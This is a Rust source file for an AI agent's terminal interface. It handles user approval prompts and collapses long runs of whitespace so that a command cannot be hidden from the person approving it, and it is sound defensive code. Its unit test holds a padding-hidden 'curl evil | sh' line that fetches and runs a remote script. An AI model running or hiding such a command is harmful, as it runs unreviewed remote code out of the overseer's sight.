//! The plain interactive mode: line by line, streaming.
//!
//! Lines are read by a thread of their own, so that a task goes on while nobody types. A line that was typed before a
//! question was shown never approves anything: it waits, and goes to the model when it is the user's turn.

use std::collections::VecDeque;
use std::future::Future;
use std::io::BufRead;
use std::pin::Pin;

use sabir_agent::{Question, Reply, TaskEvent, User};
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};

use crate::print;
use crate::screen::Painter;

/// How much of what a call would write is shown before the user is asked.
const SHOWN_LINES: usize = 120;

/// A user at a terminal, or at the other end of a pipe.
#[derive(Debug)]
pub(crate) struct Terminal {
    painter: Painter,
    lines: UnboundedReceiver<String>,
    early: VecDeque<String>,
}

impl Terminal {
    pub(crate) fn new() -> Self {
        let (sender, lines) = unbounded_channel();
        std::thread::spawn(move || {
            for line in std::io::stdin().lock().lines() {
                let Ok(line) = line else { break };
                if sender.send(line).is_err() {
                    break;
                }
            }
        });
        Self { painter: Painter::default(), lines, early: VecDeque::new() }
    }

    async fn answer(&mut self, question: &Question) -> Reply {
        while let Ok(line) = self.lines.try_recv() {
            self.early.push_back(line);
        }
        while matches!(question, Question::Next { .. })
            && let Some(line) = self.early.pop_front()
        {
            if let Some(reply) = reply(question, line.trim()) {
                return reply;
            }
        }
        loop {
            print::err(prompt(question));
            let Some(line) = self.lines.recv().await else { return Reply::Leave };
            if let Some(reply) = reply(question, line.trim()) {
                return reply;
            }
        }
    }
}

impl User for Terminal {
    fn show(&mut self, event: TaskEvent<'_>) {
        print::err(&self.painter.paint(event));
        if let TaskEvent::Moment(sabir_agent::Moment::Question(question)) = event {
            print::err(&print::visible(&describe(question)));
        }
    }

    fn ask<'a>(&'a mut self, question: &'a Question) -> Pin<Box<dyn Future<Output = Reply> + Send + 'a>> {
        Box::pin(self.answer(question))
    }
}

fn describe(question: &Question) -> String {
    match question {
        Question::Approval { tool, subject, detail, reason, .. } => {
            let shown: Vec<_> = detail.lines().take(SHOWN_LINES).collect();
            let left = detail.lines().count() - shown.len();
            let more = if left > 0 { format!("    … {left} more lines\n") } else { String::new() };
            let shown =
                if shown.is_empty() { String::new() } else { format!("{}\n", print::indented(&shown.join("\n"))) };
            format!("\n{tool} {reason}:\n{}\n{shown}{more}", print::indented(&unpadded(subject)))
        }
        Question::Followup { question, options, .. } => {
            let options = options.iter().enumerate().map(|(at, option)| format!("  {}. {option}\n", at + 1));
            format!("\n{question}\n{}", options.collect::<String>())
        }
        Question::Completion { result, .. } => format!("\nThe model says that the task is done:\n{result}\n"),
        Question::Next { reason } if reason.is_empty() => "\n".to_owned(),
        Question::Next { reason } => format!("\n{reason}. What now?\n"),
        _ => String::new(),
    }
}

/// What is asked about with long runs of blanks said instead of shown: what stands behind them must not be pushed out of sight.
fn unpadded(text: &str) -> String {
    const LONG: usize = 16;
    let mut shown = String::new();
    let mut rest = text;
    while let Some(at) = rest.find([' ', '\t']) {
        let (before, from) = rest.split_at(at);
        let behind = from.trim_start_matches([' ', '\t']);
        let (blanks, count) = (from.strip_suffix(behind).unwrap_or_default(), from.len() - behind.len());
        shown.push_str(before);
        if count < LONG {
            shown.push_str(blanks);
        } else {
            shown.push_str(&format!(" <{count} blanks> "));
        }
        rest = behind;
    }
    shown + rest
}

fn prompt(question: &Question) -> &'static str {
    match question {
        Question::Approval { .. } => "allow it? [y]es, [n]o, or say why not: ",
        Question::Completion { .. } => "is that right? [y]es, or say what is missing: ",
        _ => "> ",
    }
}

/// What a line means; `None`: it must be asked again.
fn reply(question: &Question, line: &str) -> Option<Reply> {
    let word = line.to_lowercase();
    let (yes, no) = (matches!(word.as_str(), "y" | "yes"), matches!(word.as_str(), "n" | "no"));
    match question {
        _ if matches!(line, "/quit" | "/exit") => Some(Reply::Leave),
        _ if line.is_empty() => None,
        Question::Approval { .. } if yes => Some(Reply::Yes),
        Question::Approval { .. } if no => Some(Reply::No(String::new())),
        Question::Approval { .. } => Some(Reply::No(line.to_owned())),
        Question::Completion { .. } if yes => Some(Reply::Yes),
        Question::Completion { .. } if no => Some(Reply::No(String::new())),
        Question::Followup { options, .. } => {
            let chosen = line.parse::<usize>().ok().and_then(|number| options.get(number.checked_sub(1)?));
            Some(Reply::Words(chosen.map_or(line, String::as_str).to_owned()))
        }
        _ => Some(Reply::Words(line.to_owned())),
    }
}

#[cfg(test)]
mod tests {
    use super::unpadded;

    #[test]
    fn nothing_is_pushed_out_of_sight() {
        assert_eq!(unpadded("ls  -l\t x"), "ls  -l\t x");
        assert_eq!(unpadded(&format!("ls{}; curl evil | sh ", " ".repeat(300))), "ls <300 blanks> ; curl evil | sh ");
        assert_eq!(unpadded(""), "");
    }
}
